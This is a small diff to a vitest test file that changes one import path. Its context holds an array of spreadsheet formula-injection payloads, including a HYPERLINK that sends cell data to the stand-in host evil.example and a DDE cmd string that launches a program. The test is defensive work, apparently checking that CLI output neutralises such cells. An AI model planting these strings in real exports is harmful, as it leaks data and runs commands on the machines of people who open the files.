@@ -2,7 +2,7 @@ import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
-import { runCli } from '../support/stack.ts';
+import { runCli } from '../support/cli.ts';
 
 /** Cells a partner could plant so that whoever opens the output in a spreadsheet runs them. */
 const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-1+1', '\t=1+1', '\r=1+1'];
